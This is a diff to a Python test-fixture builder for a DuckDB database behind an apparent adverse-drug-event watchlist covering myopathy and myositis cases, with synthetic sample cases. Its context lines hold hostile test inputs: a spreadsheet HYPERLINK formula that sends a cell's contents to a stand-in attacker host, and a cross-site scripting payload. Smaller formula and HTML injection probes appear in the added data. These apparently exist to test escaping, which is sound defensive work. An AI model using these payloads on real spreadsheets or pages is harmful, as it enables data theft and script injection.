@@ -18,12 +18,19 @@ HOSTILE_PATIENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 HOSTILE_SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
 
 SCHEMA = """
-CREATE SCHEMA watchlist; CREATE SCHEMA quality;
+CREATE SCHEMA watchlist; CREATE SCHEMA quality; CREATE SCHEMA reference;
+CREATE TABLE reference.scales AS SELECT 'naranjo' AS scale, 'Naranjo scale' AS scale_name;
+CREATE TABLE watchlist.hypotheses (case_id VARCHAR, label VARCHAR, aspect VARCHAR, item_number INTEGER, rule_id VARCHAR,
+    points INTEGER, event_date DATE, source_table VARCHAR, source_id VARCHAR, statement VARCHAR);
+CREATE TABLE watchlist.packet (case_id VARCHAR, section VARCHAR, section_order INTEGER, item_number INTEGER, item VARCHAR,
+    value_text VARCHAR, event_date DATE, source_table VARCHAR, source_id VARCHAR);
+CREATE TABLE watchlist.comparisons (case_id VARCHAR, label VARCHAR, scale VARCHAR, score INTEGER, highest_score INTEGER,
+    unknown_items INTEGER, category VARCHAR);
 CREATE TABLE watchlist.cases (case_id VARCHAR, patient_id VARCHAR, as_of DATE, state VARCHAR, priority VARCHAR,
     priority_reason VARCHAR, change VARCHAR, change_cause VARCHAR, first_listed DATE, nights_listed INTEGER,
     myopathy_level VARCHAR, event_score INTEGER, leading_label VARCHAR, leading_causality VARCHAR, onset_date DATE,
     onset_basis VARCHAR, ck_peak_u_per_l DOUBLE, ck_peak_x_uln DOUBLE, ck_peak_date DATE, ctcae_grade INTEGER,
-    last_ck_x_uln DOUBLE, competing_causes VARCHAR, missing_information VARCHAR, completeness DOUBLE, summary VARCHAR,
+    last_ck_x_uln DOUBLE, gates VARCHAR, relapse_n INTEGER, needs_repeat_ck BOOLEAN, competing_causes VARCHAR, missing_information VARCHAR, completeness DOUBLE, summary VARCHAR,
     sort_order INTEGER);
 CREATE TABLE watchlist.labels (case_id VARCHAR, label VARCHAR, points INTEGER, causality VARCHAR);
 CREATE TABLE watchlist.evidence (case_id VARCHAR, evidence_number INTEGER, label VARCHAR, rule_id VARCHAR, points INTEGER,
@@ -61,7 +68,7 @@ def case_row(number: int, **differs: Any) -> dict[str, Any]:
         "first_listed": AS_OF - timedelta(days=6), "nights_listed": 7, "myopathy_level": "M1", "event_score": 4,
         "leading_label": None, "leading_causality": None, "onset_date": date(2026, 2, 1), "onset_basis": "first CK above ULN",
         "ck_peak_u_per_l": None, "ck_peak_x_uln": None, "ck_peak_date": None, "ctcae_grade": None, "last_ck_x_uln": None,
-        "competing_causes": None, "missing_information": "anti-HMGCR not tested; no repeat CK", "completeness": 0.7,
+        "gates": "A", "relapse_n": 0, "needs_repeat_ck": False, "competing_causes": None, "missing_information": "anti-HMGCR not tested; no repeat CK", "completeness": 0.7,
         "summary": "", "sort_order": number,
     }  # fmt: skip
     unknown = set(differs) - set(row)
@@ -83,7 +90,9 @@ def build(path: Path, samples: Sequence[Sample]) -> None:
     connection = duckdb.connect(str(path))
     connection.execute(SCHEMA)
     connection.execute("BEGIN")
-    rows: dict[str, list[tuple[Any, ...]]] = {"cases": [], "labels": [], "evidence": [], "timeline": []}
+    rows: dict[str, list[tuple[Any, ...]]] = {
+        "cases": [], "labels": [], "evidence": [], "timeline": [], "hypotheses": [], "packet": [], "comparisons": [],
+    }  # fmt: skip
     for number, sample in enumerate(samples, start=1):
         _add(rows, case_row(number, **sample.row), sample)
     for table, values in rows.items():
@@ -108,6 +117,20 @@ def _add(rows: dict[str, list[tuple[Any, ...]]], row: dict[str, Any], sample: Sa
         (case, place, label, rule, points, day(days), table, f"{table[:3]}-{place}", sentence)
         for place, (label, rule, points, days, table, sentence) in enumerate(sample.evidence, start=1)
     ]
+    rows["hypotheses"] += [
+        (case, label, aspect, place, None, None, None, None, None, statement)
+        for label, _, _ in sample.labels
+        for place, (aspect, statement) in enumerate(HYPOTHESES, start=1)
+    ]
+    rows["hypotheses"] += [
+        (case, label, "against" if points < 0 else "for", 100 + place, rule, points, day(days), table,
+         f"{table[:3]}-{place}", sentence)
+        for place, (label, rule, points, days, table, sentence) in enumerate(sample.evidence, start=1)
+        if label != "muscle_event"
+    ]  # fmt: skip
+    if sample.labels:
+        rows["packet"] += [(case, *one) for one in PACKET]
+        rows["comparisons"].append((case, sample.labels[0][0], "naranjo", 5, 9, 4, "probable"))
     rows["timeline"] += [
         (case, lane, f"x{place}", "exposure", title, day(first), day(last), None, None, None, False)
         for place, (lane, title, first, last) in enumerate(sample.exposures)
@@ -123,6 +146,16 @@ def _add(rows: dict[str, list[tuple[Any, ...]]], row: dict[str, Any], sample: Sa
     ]
 
 
+HYPOTHESES = [
+    ("absent", "No interacting drug around onset."),
+    ("next_test", "Anti-HMGCR: a positive result makes it <i>immune-mediated</i>."),
+]
+PACKET = [
+    ("follow_up", 16, 1, "recovery", "partial", date(2026, 3, 1), None, None),
+    ("follow_up", 16, 2, "relapses", "1", None, None, None),
+    ("causes_found", 12, 1, "C-12 seizure", "Seizure: coded G40.909. =1+1", date(2026, 2, 28), "diagnoses", "D1"),
+    ("causes_absent", 13, 1, "C-08 trauma", "not found", None, None, None),
+]
 LOADS = [
     ("extracts", date(2026, 3, 9), "labs", "2026-03-09/labs.csv", 41_200, 41_100, 60, 40),
     ("extracts", date(2026, 3, 10), "labs", "2026-03-10/labs.csv", 1_400, 1_390, 7, 3),
@@ -208,7 +241,7 @@ def varied() -> list[Sample]:
                  onset_date=None, onset_basis=None, missing_information="unit unresolved", completeness=0.3, summary="A CK of 2,350 came without unit and without limit."),
             results=[(-30, None, None, "2350 (no unit)"), (-25, 2350, None, "2350"), (-24, 2100, None, "2100")]),
         Sample(
-            dict(priority="P4", leading_label="ici_myositis", leading_causality="conditional", myopathy_level="M0", event_score=0, priority_reason="M0: one CK below 3 × ULN, never repeated",
+            dict(priority="P4", needs_repeat_ck=True, leading_label="ici_myositis", leading_causality="conditional", myopathy_level="M0", event_score=0, priority_reason="M0: one CK below 3 × ULN, never repeated",
                  ck_peak_u_per_l=400, ck_peak_x_uln=2.0, ck_peak_date=date(2026, 2, 1), ctcae_grade=1, last_ck_x_uln=2.0, summary="One CK of 2.0 × ULN on nivolumab, no symptoms, not repeated."),
             labels=[("ici_myositis", 2, "conditional")], exposures=[("ici", "nivolumab", -14 - 14 * n, None) for n in range(20)], results=[(0, 400, 200, "")]),
         Sample(
